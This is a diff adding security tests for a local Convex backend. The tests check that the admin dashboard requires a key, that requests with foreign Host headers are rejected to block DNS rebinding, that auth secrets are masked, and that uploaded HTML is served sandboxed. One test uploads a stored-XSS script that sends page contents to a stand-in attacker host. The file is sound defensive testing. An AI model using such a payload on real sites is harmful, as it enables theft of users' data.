@@ -3,6 +3,7 @@
  * token test fails when patches/@convex-dev+auth+*.patch is not applied to node_modules.
  * The convex/ suites hold the full catalogue; these check what reaches a real client.
  */
+import { request as httpRequest, type IncomingHttpHeaders } from "node:http";
 import { afterAll, beforeAll, expect, it } from "vitest";
 import { api } from "../convex/_generated/api";
 import type { LocalBackend } from "./server.ts";
@@ -117,5 +118,118 @@ it("nobody can claim the upload of whoever uploaded next by guessing its storage
     expect(await owner.mutation(api.events.claimImageUpload, { storageId: theirs })).toEqual({ accepted: true });
   } finally {
     await Promise.all([attacker.close(), owner.close()]);
+  }
+});
+
+/** A raw HTTP request, so the test can send any Host header (fetch fixes it to the URL's). */
+function rawRequest(
+  path: string,
+  { host, method = "GET", headers = {}, body }: { host?: string; method?: string; headers?: Record<string, string>; body?: string } = {},
+): Promise<{ status: number; headers: IncomingHttpHeaders; body: string }> {
+  const url = new URL(backend.url);
+  return new Promise((resolve, reject) => {
+    const request = httpRequest(
+      { host: url.hostname, port: url.port, path, method, headers: { ...headers, ...(host === undefined ? {} : { Host: host }) } },
+      (response) => {
+        let text = "";
+        response.setEncoding("utf8");
+        response.on("data", (chunk: string) => (text += chunk));
+        response.on("end", () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text }));
+      },
+    );
+    request.on("error", reject);
+    request.end(body);
+  });
+}
+
+it("the dashboard shows nothing without the admin key: no tables, no documents, no counters", async () => {
+  const client = await signedInClient(backend.url, "Dora Dados", "dora@exemplo.com");
+  await client.close();
+  for (const path of ["/", "/dashboard/table?component=&table=users", "/dashboard/table?component=&table=authRefreshTokens", "/dashboard/stats.json"]) {
+    const wrongKey = { headers: { Authorization: "Convex apoie-local|0000", Cookie: `apoie_admin_${new URL(backend.url).port}=nope` } };
+    for (const attempt of [{}, wrongKey]) {
+      const response = await rawRequest(path, attempt);
+      expect(response.status, path).toBe(401);
+      expect(response.body).not.toContain("dora@exemplo.com");
+      expect(response.body).not.toMatch(/authRefreshTokens|"commits"/);
+    }
+  }
+  const wrongInUrl = await rawRequest(`/?key=${encodeURIComponent("apoie-local|0000")}`);
+  expect(wrongInUrl.status).toBe(401);
+  expect(wrongInUrl.headers["set-cookie"]).toBeUndefined();
+});
+
+it("answers no request whose Host is not this machine (DNS rebinding), even with the admin key", async () => {
+  const port = new URL(backend.url).port;
+  const admin = { Authorization: `Convex ${backend.adminKey}` };
+  const call = JSON.stringify({ path: "events:list", args: { paginationOpts: { numItems: 5, cursor: null } }, format: "json" });
+  for (const host of [`attacker.example:${port}`, "attacker.example", `127.0.0.1:${Number(port) + 1}`, `localhost.attacker.example:${port}`]) {
+    for (const [path, method, body] of [
+      ["/", "GET", undefined],
+      ["/dashboard/table?component=&table=users", "GET", undefined],
+      ["/dashboard/stats.json", "GET", undefined],
+      ["/api/query", "POST", call],
+    ] as const) {
+      const response = await rawRequest(path, { host, method, body, headers: { ...admin, "Content-Type": "application/json" } });
+      expect(response.status, `${host} ${path}`).toBe(403);
+      expect(response.body).not.toMatch(/"value"|<table|commits/);
+    }
+    const upgrade = await rawRequest("/api/1.0/sync", {
+      host,
+      headers: { Upgrade: "websocket", Connection: "Upgrade", "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version": "13" },
+    });
+    expect(upgrade.status, `${host} WebSocket`).toBe(403);
+  }
+  // The names of this machine, on this port, are answered.
+  for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `[::1]:${port}`]) {
+    expect((await rawRequest("/dashboard/stats.json", { host, headers: admin })).status, host).toBe(200);
+  }
+});
+
+it("the dashboard, with the key, masks what signs people in: auth tables and fields named like secrets", async () => {
+  const client = newClient(backend.url);
+  const signIn = await client.action(api.auth.signIn, { provider: "local", params: { name: "Sara Segredo", email: "sara@exemplo.com" } });
+  await client.close();
+  const [refreshTokenId = "", sessionId = ""] = signIn.tokens!.refreshToken.split("|");
+  const admin = { headers: { Authorization: `Convex ${backend.adminKey}` } };
+  const pages = ["/"];
+  for (const table of ["users", "authAccounts", "authSessions", "authRefreshTokens", "authVerificationCodes", "authVerifiers"]) {
+    pages.push(`/dashboard/table?component=&table=${table}`);
+  }
+  let seenUser = false;
+  for (const path of pages) {
+    const { status, body } = await rawRequest(path, admin);
+    expect(status, path).toBe(200);
+    expect(body, path).not.toContain(refreshTokenId);
+    expect(body, path).not.toContain(sessionId);
+    expect(body, path).not.toContain(process.env.JWT_PRIVATE_KEY!.slice(40, 80));
+    if (body.includes("sara@exemplo.com")) seenUser = true;
+  }
+  // Plain data is still shown.
+  expect(seenUser).toBe(true);
+});
+
+it("an uploaded HTML file cannot run on the backend's origin: no sniffing, sandboxed, downloaded", async () => {
+  const client = await signedInClient(backend.url, "Hugo Html", "hugo@exemplo.com");
+  try {
+    const uploadUrl = await client.mutation(api.events.generateImageUploadUrl, {});
+    const page = "<script>fetch('/').then((r) => r.text()).then((t) => fetch('https://attacker.example/?' + t))</script>";
+    for (const contentType of ["text/html", "image/svg+xml", "application/xhtml+xml", ""]) {
+      const upload = await fetch(uploadUrl, { method: "POST", headers: contentType ? { "Content-Type": contentType } : {}, body: page });
+      const { storageId } = (await upload.json()) as { storageId: string };
+      const served = await fetch(`${backend.url}/api/storage/${storageId}`);
+      expect(await served.text()).toBe(page);
+      expect(served.headers.get("x-content-type-options"), contentType).toBe("nosniff");
+      expect(served.headers.get("content-security-policy"), contentType).toMatch(/(^|;)\s*sandbox(;|$)/);
+      expect(served.headers.get("content-disposition"), contentType).toMatch(/^attachment/);
+    }
+    // Images, the app's files, are still shown in place.
+    const image = await uploadImage(client);
+    const shown = await fetch(`${backend.url}/api/storage/${image}`);
+    expect(shown.headers.get("content-type")).toBe("image/png");
+    expect(shown.headers.get("content-disposition")).toBeNull();
+    expect(shown.headers.get("content-security-policy")).toMatch(/sandbox/);
+  } finally {
+    await client.close();
   }
 });
